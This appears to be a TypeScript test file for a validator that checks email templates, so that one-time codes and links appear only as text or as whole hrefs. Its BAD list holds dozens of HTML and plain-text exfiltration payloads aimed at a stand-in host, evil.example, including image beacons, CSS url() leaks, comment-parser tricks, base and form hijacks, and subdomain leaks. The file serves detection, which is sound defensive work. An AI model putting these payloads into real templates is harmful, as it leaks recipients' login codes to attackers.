import assert from 'node:assert/strict'
import { test } from 'node:test'
import { htmlProblem, textProblem } from './proof-places.ts'

const GOOD = [
  '<p>Code: <b>{{.Code}}</b>. Valid for an hour.</p>',
  '<a href="{{.Link}}">{{.ButtonText}}</a>',
  "<a class=button href='{{ .Link }}' style='color:red'>{{.Text}}</a>",
  '<a href={{.Link}}>{{.Link}}</a>',
  '<!doctype html><head><title>{{.Subject}}</title><style>p { color: red }</style></head><p>&nbsp;{{.Code}}&nbsp;</p>',
  '<!-- a comment --><p title="{{.UserName}}">1 < 2 {{.Code}}</p>',
  '<img src="https://cdn.example/logo.png" alt="Logo"><p>({{.Code}})</p>',
]

const BAD = [
  '<img src="https://evil.example/?c={{.Code}}">',
  "<img src='https://evil.example/?c={{ .Code }}'>",
  '<img src=https://evil.example/?c={{.Code}}>',
  '<img src="https://evil.example/?c={{.Link}}">',
  // Everything up to the next quote is part of the address.
  '<img src="https://evil.example/?c=<p>{{.Code}}</p>',
  '<a href="https://evil.example/?u={{.Link}}">here</a>',
  '<a href="{{.Link}}&to=evil">here</a>',
  '<link rel="prefetch" href="{{.Link}}">',
  '<p style="background:url(https://evil.example/{{.Code}})">x</p>',
  '<style>p { background: url(https://evil.example/{{.Code}}) }</style>',
  '<!--[if mso]><img src="https://evil.example/?c={{.Code}}"><![endif]-->',
  '<!--><img src="https://evil.example/?c=-->{{.Code}}">',
  '<!---><img src="https://evil.example/?c=-->{{.Code}}">',
  '<!--x--!><img src="https://evil.example/?c=-->{{.Code}}">',
  '<? <img src="https://evil.example/?c={{.Code}}">',
  '<img/src="https://evil.example/?c={{.Code}}"/>',
  '<img ="x" src="https://evil.example/?c={{.Code}}">',
  '<img alt=""src="https://evil.example/?c={{.Code}}">',
  // A part may carry the code.
  '<img src="https://evil.example/?c={{.Text}}"><p>{{.Code}}</p>',
  '<form action="https://evil.example"><textarea name="c">{{.Code}}</textarea></form>',
  '<base href="https://evil.example/"><p>{{.Code}}</p>',
  '<svg><a>{{.Code}}</a></svg>',
  // Mail programs make links of these, and scanners follow them.
  '<p>https://evil.example/?c={{.Code}}</p>',
  '<p>https:&#47;&#47;evil.example&#47;{{.Code}}</p>',
  '<p>{{.Code}}.evil.example</p>',
  '<p>https://evil.example/?c={{.Text}}</p>',
]

test('the code and the link stand in a page as text, or the link as a whole href', () => {
  for (const html of GOOD) assert.equal(htmlProblem(html), undefined, html)
  for (const html of BAD) assert.equal(typeof htmlProblem(html), 'string', html)
})

test('in plain text they are not part of an address', () => {
  for (const text of ['Your code is {{.Code}}.', 'Code:{{.Code}}', '{{.Link}}', 'Open {{.Link}}, then {{.Code}}!']) {
    assert.equal(textProblem(text), undefined, text)
  }
  for (const text of ['https://evil.example/{{.Code}}', '{{.Code}}.evil.example', 'www.evil.example?{{ .Code }}']) {
    assert.equal(typeof textProblem(text), 'string', text)
  }
})
